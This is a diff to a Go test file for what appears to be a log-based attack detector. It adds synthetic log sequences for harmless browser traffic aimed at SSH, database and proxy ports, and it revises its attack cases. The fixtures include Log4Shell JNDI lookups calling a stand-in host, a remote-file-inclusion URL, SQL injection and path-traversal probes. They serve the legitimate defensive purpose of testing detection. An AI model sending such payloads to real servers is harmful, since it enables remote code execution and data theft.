@@ -12,6 +12,7 @@ const (
 	topicOutage  = "Our own outage"
 	topicStale   = "One stale credential"
 	topicWeb     = "Web: on whose behalf, and what is an answer"
+	topicPage    = "A page elsewhere that sends its readers to us"
 	topicMail    = "Mail"
 	topicAttack  = "Attackers"
 )
@@ -39,7 +40,7 @@ const unmatched = "no rule matches such lines"
 func say(form string, values ...any) string { return fmt.Sprintf(form, values...) }
 
 func honestSequences() []sequence {
-	return slices.Concat(keySequences(), successSequences(), outageSequences(), staleSequences(), webSequences(), mailSequences(), attackSequences())
+	return slices.Concat(keySequences(), successSequences(), outageSequences(), staleSequences(), webSequences(), pageSequences(), mailSequences(), attackSequences())
 }
 
 func keySequences() []sequence {
@@ -56,7 +57,7 @@ func keySequences() []sequence {
 		{topicKeys, "Ansible for four accounts that are not there any more", repeat(24, 15*time.Minute, say(sshInvalid, "ops{i%4}"), say(sshGone, "ops{i%4}")), "", "it takes five accounts"},
 		{topicKeys, "clients after a new installation of the server", repeat(60, time.Minute, "sshd Received disconnect from {A} port 40022:9: Host key verification failed [preauth]"), "", why},
 		{topicKeys, "a monitor that looks whether port 22 is open", repeat(1440, time.Minute, "sshd Connection closed by {A} port 40022 [preauth]"), "", "it never says who it is"},
-		{topicKeys, "a monitor that speaks HTTP to port 22", repeat(120, time.Minute, "sshd banner exchange: Connection from {A} port 40022: invalid format"), "", "20 in 10 minutes are probing"},
+		{topicKeys, "a monitor that speaks HTTP to port 22", repeat(120, time.Minute, "sshd banner exchange: Connection from {A} port 40022: invalid format"), "", "any page has its readers' browsers do that"},
 		{topicKeys, "a host whose name does not fit its address", repeat(500, time.Second, `sshd Nasty PTR record "192.0.2.1" is set up for {A}, ignoring`), "", "that is its provider's doing"},
 		{topicKeys, "a client with old algorithms only", repeat(200, 20*time.Second, "sshd Unable to negotiate with {A} port 40022: no matching host key type found. Their offer: ssh-rsa [preauth]"), "", "a rate of 300 in 10 minutes"},
 		{topicKeys, "somebody who mistypes four times and gives up", repeat(4, 20*time.Second, say(sshFailed, "dan")), "", "five wrong passwords in 10 minutes are guessing"},
@@ -158,6 +159,39 @@ func webSequences() []sequence {
 	}
 }
 
+// pageSequences are a thousand images of a page, or what a page posts, on each port that browsers reach: its readers' browsers speak HTTP
+// or TLS there.
+func pageSequences() []sequence {
+	const (
+		thousand, pause = 1000, 20 * time.Millisecond
+		protocol        = "any page has its readers' browsers do that"
+		web             = "what is weak of a web server is held against nobody"
+	)
+	return []sequence{
+		{topicPage, "sshd on a port that browsers reach (2222)", repeat(thousand, pause, "sshd banner exchange: Connection from {A} port 40022: invalid format"), "", protocol},
+		{topicPage, "the same, and what sshd says of it before 7.9", repeat(thousand, pause, "sshd Bad protocol version identification 'GET /{i} HTTP/1.1' from {A} port 40022"), "", protocol},
+		{topicPage, "the same, where the browser gives up", repeat(thousand, pause, "sshd Connection closed by {A} port 40022 [preauth]"), "", protocol},
+		{topicPage, "the same, with more at once than sshd takes", repeat(thousand, pause, "sshd drop connection #10 from [{A}]:40022 on [192.0.2.10]:2222 past MaxStartups"), "", protocol},
+		{topicPage, "Dropbear on such a port", repeat(thousand, pause, "dropbear Exit before auth from <{A}:40022>: Incompatible remote version 'GET / HTTP/1.1'"), "", protocol},
+		{topicPage, "Squid", repeat(thousand, pause, "squid 1795300000.123      0 {A} NONE_NONE/400 3922 - error:invalid-request - HIER_NONE/- text/html"), "", protocol},
+		{topicPage, "Squid, as a request for itself", repeat(thousand, pause, "squid 1795300000.123      0 {A} TCP_DENIED/403 3900 GET http://www.example.org:3128/{i} - HIER_NONE/- text/html"), "", protocol},
+		{topicPage, "MongoDB", repeat(thousand, pause, `mongod {"t":{"$date":"2026-11-22T08:00:00.123+00:00"},"s":"I","c":"NETWORK","id":22988,"ctx":"conn12","msg":"Error receiving request from client. Ending connection from remote","attr":{"error":{"code":141,"codeName":"SSLHandshakeFailed","errmsg":"The client sent an HTTP request over a native MongoDB connection"},"remote":"{A}:40022","connectionId":12}}`), "", protocol},
+		{topicPage, "OpenVPN by TCP", repeat(thousand, pause, "openvpn {A}:40022 WARNING: Bad encapsulated packet length from peer (18245), which must be > 0 and <= 1626 -- please ensure that --tun-mtu or --link-mtu is equal on both peers -- this condition could also indicate a possible active attack on the TCP link -- [Attempting restart...]"), "", protocol},
+		{topicPage, "PostgreSQL", repeat(thousand, pause, `postgresql-json {"timestamp":"2026-11-22 08:00:00.123 UTC","pid":1234,"remote_host":"{A}","remote_port":40022,"error_severity":"LOG","state_code":"08P01","message":"invalid length of startup packet","backend_type":"not initialized","query_id":0}`), "", protocol},
+		{topicPage, "Elasticsearch", repeat(thousand, pause, `elasticsearch {"type":"audit", "timestamp":"2026-11-22T08:00:00,123+0000", "node.id":"0RMNyghkQYCc_gVd1G6tZQ", "event.type":"rest", "event.action":"anonymous_access_denied", "origin.type":"rest", "origin.address":"{A}:40022", "url.path":"/_cat/indices", "request.method":"GET", "request.id":"qo04VI2qRzKrE1dlrsjYgw"}`), "", protocol},
+		{topicPage, "Nextcloud, by a name of the page's that leads to us", repeat(thousand, pause, `nextcloud {"reqId":"icEl09JwlHfYBLA69Wq4","level":1,"time":"2026-11-22T08:00:00+00:00","remoteAddr":"{A}","user":"--","app":"core","method":"GET","url":"/","message":"Trusted domain error. \"{A}\" tried to access using \"evil.example\" as host.","userAgent":"Mozilla/5.0","version":"31.0.1.1"}`), "", protocol},
+		{topicPage, "GitLab's programming interface", repeat(thousand, pause, `gitlab {"time":"2026-11-22T08:00:00.123Z","severity":"INFO","duration_s":0.01,"status":401,"method":"GET","path":"/api/v4/user","params":[],"host":"gitlab.example.org","remote_ip":"{A}","ua":"Mozilla/5.0","route":"/api/:version/user"}`), "", protocol},
+		{topicPage, "a Referer that looks like an attack", repeat(thousand, pause, `nginx {A} - - [22/Nov/2026:08:00:00 +0000] "GET /logo.png?{i} HTTP/1.1" 200 512 "https://evil.example/?${jndi:ldap://x}" "Mozilla/5.0"`), "", web},
+		{topicPage, "programs that are not there", repeat(thousand, pause, say(request, "-", "GET /cgi-bin/x{i}", 404)), "", web},
+		{topicPage, "a search for what looks like an attack", repeat(thousand, pause, say(request, "-", "GET /search?q=union+select+a{i}%2C+b+from+t", 200)), "", web},
+		{topicPage, "addresses in parameters", repeat(thousand, pause, say(request, "-", "GET /index.php?page=http://192.0.2.99/x.txt?", 200)), "", web},
+		{topicPage, "a form posted to WordPress, as for a second factor", repeat(thousand, pause, say(request, "-", "POST /wp-login.php?action=validate_2fa", 200)), "", web},
+		{topicPage, "pictures folders up", repeat(thousand, pause, say(request, "-", "GET /index.php?page=../../../data/list", 200)), "", web},
+		{topicPage, "port 80 by TLS", repeat(thousand, pause, `nginx {A} - - [22/Nov/2026:08:00:00 +0000] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03" 400 150 "-" "-"`), "", web},
+		{topicPage, "requests that are too long", repeat(thousand, pause, say(request, "-", "GET /{i}", 400)), "", web},
+	}
+}
+
 func mailSequences() []sequence {
 	const answer = "mail that is not accepted is held against nobody"
 	return []sequence{
@@ -191,6 +225,7 @@ func attackSequences() []sequence {
 		{topicAttack, "a search for what is not there", repeat(10, time.Second, say(request, "-", "GET /d{i}/.env", 404)), "web-probing", "10 requests for 5 paths in an hour"},
 		{topicAttack, "Log4Shell in the name of the browser", repeat(3, time.Second, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"${jndi:ldap://192.0.2.99/a}\""), "web-tools", "no page can make a browser say that"},
 		{topicAttack, "an open relay is looked for", repeat(30, time.Minute, relayDenied), "mail-abuse", "30 in an hour"},
-		{topicAttack, "a scanner that speaks other protocols to port 22", repeat(20, 10*time.Second, "sshd banner exchange: Connection from {A} port 40022: invalid format"), "probes", "20 in 10 minutes"},
+		{topicAttack, "a scanner that speaks other protocols to port 25", repeat(20, 10*time.Second, "postfix/smtpd warning: non-SMTP command from unknown[{A}]: GET / HTTP/1.1"), "probes", "20 in 10 minutes; browsers refuse that port"},
+		{topicAttack, "the same to port 22", repeat(290, 2*time.Second, "sshd banner exchange: Connection from {A} port 40022: invalid format"), "", "nothing tells it from a page elsewhere that sends its readers to a port of sshd's"},
 	}
 }
